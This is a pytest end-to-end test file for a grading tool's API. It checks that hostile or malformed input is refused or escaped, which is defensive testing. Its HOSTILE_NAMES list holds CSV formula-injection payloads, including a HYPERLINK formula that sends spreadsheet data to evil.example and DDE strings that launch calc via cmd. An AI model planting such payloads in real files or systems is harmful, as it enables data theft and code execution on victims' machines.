"""Issue 11, findings 4, 8 and 9 replayed against a running tool: CSV formula injection, ids and
dates outside the columns' range, NUL bytes and broken UTF-8, blank reasons, empty revisions,
oversized bodies and lists, unusual launch claims, and points looser than the documented grammar.

Every answer here is a 4xx with a JSON `code` (or the refusal page for a launch), never a 500."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from sqlalchemy import select

from tool.lti.claims import CONTEXT, LTI
from tool.lti.models import LaunchRecord
from tests.e2e.conftest import Stack
from tests.e2e.test_ledger_api import Class as LedgerClass

BIG = 2**31  # one past PostgreSQL's integer


class Class(LedgerClass):
    """A teacher and three students who launched (tests/e2e/test_ledger_api.py), and one entry."""

    def __init__(self, stack: Stack) -> None:
        super().__init__(stack)
        self.entry = self.call("POST", "/api/grades/entries", self.entry_body()).json()

    def entry_body(self, **extra: Any) -> dict[str, Any]:
        return {"offeringId": self.offering_id, "studentId": self.students[0], "points": "10.5", "typeCode": "EXAM",
                **extra}

    def call(self, method: str, path: str, body: Any = None, **kw: Any) -> Any:
        return self.stack.api(self.teacher, path, method, json=body, **kw)

    def raw(self, method: str, path: str, data: bytes) -> Any:
        return self.stack.api(self.teacher, path, method, data=data,
                              headers={"Authorization": f"Bearer {self.teacher}", "Content-Type": "application/json"})


@pytest.fixture
def klass(moodle: Stack) -> Class:
    return Class(moodle)


def refused(r: Any, status: int = 422, code: str | None = None) -> dict[str, Any]:
    assert r.status_code == status, (r.status_code, r.text[:500])
    body = r.json()
    assert isinstance(body.get("code"), str) and body["code"], body
    if code is not None:
        assert body["code"] == code, body
    return body


# -- finding 4: CSV exports --------------------------------------------------------------------------

HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                 "@SUM(1+1)*cmd|' /C calc'!A0", "\tTabbed", "\rReturned"]


def _rename(stack: Stack, user_id: str, name: str) -> None:
    def mutate(claims: dict[str, Any]) -> None:
        claims["name"] = name
        claims["given_name"] = name
    assert stack.crafted_launch(mutate, user_id=user_id).status == 200


def _csv(klass: Class, query: str = "") -> Any:
    r = klass.call("GET", f"/api/grades/groups/{klass.course_id}/offerings/{klass.offering_id}/summary.csv{query}")
    assert r.status_code == 200, r.text[:300]
    return r


def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(klass: Class) -> None:
    users = klass.stack.platform.students
    klass.stack.platform.add_students(3)
    users = klass.stack.platform.students
    for user, name in zip(users, HOSTILE_NAMES):
        _rename(klass.stack, user.id, name)
    r = _csv(klass)
    assert r.content.startswith(b"\xef\xbb\xbf"), r.content[:10]  # UTF-8 with BOM: Excel reads it as UTF-8
    assert "charset=utf-8" in r.headers["Content-Type"].lower()
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    names = {row["name"] for row in rows}
    for name in HOSTILE_NAMES:
        assert "'" + name in names, (name, names)  # kept whole, behind a quote
    for row in rows:
        for value in row.values():
            assert not value or value[0] not in "=+-@\t\r" or _number(value), row
    mine = next(row for row in rows if row["student_id"] == str(klass.students[0]))
    assert mine["total"] == "10.50" and mine["exam"] == "10.50"  # numbers stay numbers


def _number(value: str) -> bool:
    try:
        float(value.replace(",", "."))
        return True
    except ValueError:
        return False


def test_csv_for_a_decimal_comma_locale_uses_semicolons(klass: Class) -> None:
    klass.call("POST", "/api/grades/entries", klass.entry_body(studentId=klass.students[1], points="-2.25"))
    _rename(klass.stack, klass.stack.platform.students[2].id, "=1+1; Smith, Jo")
    r = _csv(klass, "?format=semicolon")
    assert r.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig")), delimiter=";"))
    by_id = {row["student_id"]: row for row in rows}
    assert by_id[str(klass.students[0])]["total"] == "10,50"
    assert by_id[str(klass.students[1])]["total"] == "-2,25"  # a negative number is a number, not escaped
    assert by_id[str(klass.students[2])]["name"] == "'=1+1; Smith, Jo"
    assert "entries" in rows[0] and "exam" in rows[0]


def test_an_unknown_csv_format_is_refused(klass: Class) -> None:
    r = klass.call("GET", f"/api/grades/groups/{klass.course_id}/offerings/{klass.offering_id}/summary.csv?format=xls")
    refused(r, 422)


# -- finding 8: ids, NUL, UTF-8, dates -----------------------------------------------------------------


@pytest.mark.parametrize("path", [
    "/api/grades/entries/{big}", "/api/grades/entries/{big}/history", "/api/assessments/{big}",
    "/api/grades/students/{big}/offerings/{big}", "/api/offerings/{big}/assessments", "/api/schemes/{big}",
    "/api/grades/entries/0", "/api/grades/entries/-1", "/offerings/{big}",
])
def test_ids_outside_the_column_range_in_a_path_are_404(klass: Class, path: str) -> None:
    r = klass.call("GET", path.format(big=BIG), headers={"Authorization": f"Bearer {klass.teacher}",
                                                         "Accept": "application/json"})
    refused(r, 404)


@pytest.mark.parametrize("field,value", [("offeringId", BIG), ("studentId", BIG), ("studentId", 10**30),
                                         ("offeringId", 0), ("studentId", -5)])
def test_ids_outside_the_column_range_in_a_body_are_422(klass: Class, field: str, value: int) -> None:
    body = refused(klass.call("POST", "/api/grades/entries", klass.entry_body(**{field: value})), 422)
    assert any(d["field"] == field for d in body["details"]), body


def test_bulk_and_task_ids_outside_the_range_are_422(klass: Class) -> None:
    bulk = {"offeringId": klass.offering_id, "typeCode": "EXAM", "items": [{"studentId": BIG, "points": "1"}]}
    refused(klass.call("POST", "/api/grades/entries/bulk", bulk), 422)
    a = klass.call("POST", f"/api/offerings/{klass.offering_id}/assessments",
                   {"title": "T", "maxPoints": 10, "tasks": [{"title": "a", "maxPoints": 10}]}).json()
    r = klass.call("PUT", f"/api/assessments/{a['id']}/points/{klass.students[0]}", {"tasks": {str(BIG): "1"}})
    refused(r, 422)


@pytest.mark.parametrize("body", [
    {"description": "nul\x00byte"}, {"typeCode": "CUSTOM", "typeLabel": "a\x00b"}, {"lessonId": "\x00"},
    {"description": "\ud800 lone surrogate"},
])
def test_nul_bytes_and_lone_surrogates_in_text_are_422(klass: Class, body: dict[str, Any]) -> None:
    refused(klass.call("POST", "/api/grades/entries", klass.entry_body(**body)), 422)
    refused(klass.call("PUT", f"/api/grades/entries/{klass.entry['id']}", body), 422)


def test_nul_in_a_query_parameter_is_422(klass: Class) -> None:
    r = klass.call("DELETE", f"/api/grades/entries/{klass.entry['id']}?reason=a%00b", None)
    refused(r, 422)
    r = klass.call("GET", f"/api/grades/groups/{klass.course_id}/offerings/{klass.offering_id}/summary?from=2026%00")
    refused(r, 422)
    r = klass.call("DELETE", f"/api/grades/entries/{klass.entry['id']}?reason=caf%E9", None)  # Latin-1, not UTF-8
    refused(r, 422, "invalid_text")
    assert klass.call("GET", f"/api/grades/entries/{klass.entry['id']}").json()["status"] == "ACTIVE"
    r = klass.call("DELETE", f"/api/grades/entries/{klass.entry['id']}?reason=caf%C3%A9%20%EF%BF%BD", None)
    assert r.status_code == 200 and r.json()["voidReason"] == "caf\u00e9 \ufffd"  # valid UTF-8 passes, even U+FFFD


@pytest.mark.parametrize("data", [b"[" * 100_000 + b"]" * 100_000, b'{"a": ' * 50_000 + b"1" + b"}" * 50_000,
                                  b'{"description\\u0000": 1}', b'{"points": 1' + b"0" * 5000 + b"}"])
def test_deep_nesting_nul_keys_and_huge_integers_are_422(klass: Class, data: bytes) -> None:
    refused(klass.raw("POST", "/api/grades/entries", data), 422)


def test_invalid_utf8_is_422_not_replaced(klass: Class) -> None:
    data = json.dumps(klass.entry_body(description="caf\u00e9"), ensure_ascii=False).encode().replace(b"\xc3\xa9", b"\xe9")
    refused(klass.raw("POST", "/api/grades/entries", data), 422, "invalid_encoding")


@pytest.mark.parametrize("graded_at", ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00",
                                       "1000-01-01T00:00:00Z", "3000-01-01T00:00:00Z"])
def test_dates_outside_a_sane_range_are_422(klass: Class, graded_at: str) -> None:
    body = refused(klass.call("POST", "/api/grades/entries", klass.entry_body(gradedAt=graded_at)), 422)
    assert any(d["field"] == "gradedAt" for d in body["details"]), body
    refused(klass.call("PUT", f"/api/grades/entries/{klass.entry['id']}", {"gradedAt": graded_at}), 422)
    r = klass.call("GET", f"/api/grades/students/{klass.students[0]}/offerings/{klass.offering_id}"
                          f"?from={graded_at.replace('+', '%2B')}")
    refused(r, 422)


# -- finding 9: blank reasons, empty revisions, caps ---------------------------------------------------


@pytest.mark.parametrize("reason", [" ", "   \t\n ", "\u3000"])
def test_a_blank_void_reason_is_422(klass: Class, reason: str) -> None:
    refused(klass.call("DELETE", f"/api/grades/entries/{klass.entry['id']}", {"reason": reason}), 422)
    assert klass.call("GET", f"/api/grades/entries/{klass.entry['id']}").json()["status"] == "ACTIVE"


def test_a_blank_override_reason_is_422(klass: Class) -> None:
    a = klass.call("POST", f"/api/offerings/{klass.offering_id}/assessments", {"title": "T", "maxPoints": 10}).json()
    r = klass.call("PUT", f"/api/assessments/{a['id']}/participations/{klass.students[0]}/override",
                   {"grade": "1.0", "reason": "  "})
    refused(r, 422)


@pytest.mark.parametrize("body", [{}, {"version": 1}])
def test_an_empty_correction_writes_no_revision(klass: Class, body: dict[str, Any]) -> None:
    refused(klass.call("PUT", f"/api/grades/entries/{klass.entry['id']}", body), 422, "empty_update")
    history = klass.call("GET", f"/api/grades/entries/{klass.entry['id']}/history").json()
    assert history["revisions"] == [] and history["entry"]["version"] == 1


def test_an_oversized_body_is_413_with_a_json_code(klass: Class) -> None:
    body = klass.entry_body(description="x" * 2_000_000)
    refused(klass.call("POST", "/api/grades/entries", body), 413, "body_too_large")


def test_too_many_bands_are_refused_fast(klass: Class) -> None:
    a = klass.call("POST", f"/api/offerings/{klass.offering_id}/assessments", {"title": "T", "maxPoints": 10}).json()
    many = {"config": {"unit": "points", "bands": [{"min": "0", "grade": "1.0"}] * 100_000}}
    r = klass.call("POST", f"/api/assessments/{a['id']}/scheme-check", many)
    assert r.status_code in (413, 422), r.status_code
    assert r.json()["code"]
    # Under the body cap, the list cap itself answers.
    some = {"config": {"unit": "points", "bands": [{"min": "0", "grade": "1.0"}] * 5_000}}
    refused(klass.call("POST", f"/api/assessments/{a['id']}/scheme-check", some), 422, "too_many_bands")
    refused(klass.call("POST", f"/api/assessments/{a['id']}/schemes", some), 422, "too_many_bands")


def test_too_many_bulk_items_are_422(klass: Class) -> None:
    items = [{"studentId": klass.students[0], "points": "1"}] * 2001
    body = {"offeringId": klass.offering_id, "typeCode": "EXAM", "items": items}
    refused(klass.call("POST", "/api/grades/entries/bulk", body), 422)


# -- finding 9: points looser than documented ---------------------------------------------------------

LOOSE = ["1e3", "1E3", "1_0", "\u0663", "\uff15", "+5", " 5", "5 ", "5.", ".5", "1.005", "0x10", "NaN", "Infinity",
         "-", "", "1,5", "10000", "--1"]


@pytest.mark.parametrize("points", LOOSE)
def test_points_outside_the_grammar_are_422(klass: Class, points: str) -> None:
    body = refused(klass.call("POST", "/api/grades/entries", klass.entry_body(points=points)), 422)
    assert any(d["field"] == "points" for d in body["details"]), body
    refused(klass.call("PUT", f"/api/grades/entries/{klass.entry['id']}", {"points": points}), 422)


def test_json_numbers_with_an_exponent_are_refused(klass: Class) -> None:
    data = ('{"offeringId": %d, "studentId": %d, "points": 1e1, "typeCode": "EXAM"}'
            % (klass.offering_id, klass.students[0])).encode()
    refused(klass.raw("POST", "/api/grades/entries", data), 422)


@pytest.mark.parametrize("points,stored", [("5", "5.00"), ("-0.5", "-0.50"), ("9999.99", "9999.99"), ("07", "7.00")])
def test_points_in_the_grammar_pass(klass: Class, points: str, stored: str) -> None:
    r = klass.call("POST", "/api/grades/entries", klass.entry_body(points=points, confirmBonus=True))
    assert r.status_code == 201, r.text
    assert r.json()["points"] == stored


def test_the_openapi_pattern_is_the_grammar(klass: Class) -> None:
    from tool.decimals import POINTS_PATTERN

    doc = klass.call("GET", "/api/openapi.json").json()
    text = json.dumps(doc)
    assert json.dumps(POINTS_PATTERN) in text
    assert json.dumps(r"^-?\d{1,4}(\.\d{1,2})?$") not in text  # \d also matches other scripts' digits


# -- finding 8: unusual launch claims -----------------------------------------------------------------


def _set(path: str, value: Any) -> Any:
    def mutate(claims: dict[str, Any]) -> None:
        claims[path] = value
    return mutate


def _context_id(value: str) -> Any:
    def mutate(claims: dict[str, Any]) -> None:
        claims[CONTEXT] = {**claims[CONTEXT], "id": value}
    return mutate


@pytest.mark.parametrize("case,mutate", [
    ("long_name", _set("name", "N" * 300)),
    ("long_sub", _set("sub", "s" * 300)),
    ("long_context_id", _context_id("c" * 256)),
    ("context_string", _set(CONTEXT, "course-1")),
    ("context_list", _set(CONTEXT, ["course-1"])),
    ("resource_link_string", _set(LTI + "resource_link", "rl")),
    ("nul_in_name", _set("name", "a\x00b")),
    ("long_deployment", _set(LTI + "deployment_id", "d" * 300)),
    ("presentation_string", _set(LTI + "launch_presentation", "iframe")),
    ("nrps_string", _set("https://purl.imsglobal.org/spec/lti-nrps/claim/namesroleservice", "x")),
    ("long_lineitems_url", _set("https://purl.imsglobal.org/spec/lti-ags/claim/endpoint",
                                {"scope": [], "lineitems": "http://lms.example/" + "x" * 1000})),
])
def test_unusual_launch_claims_are_refused_and_recorded(moodle: Stack, case: str, mutate: Any) -> None:
    result = moodle.crafted_launch(mutate)
    assert result.status == 400, (result.status, result.response.text[:500])
    assert result.refusal_code, result.response.text[:500]
    assert result.token is None
    with moodle.session() as db:
        records = db.scalars(select(LaunchRecord).where(LaunchRecord.outcome == "refused")).all()
    assert [r.code for r in records] == [result.refusal_code]
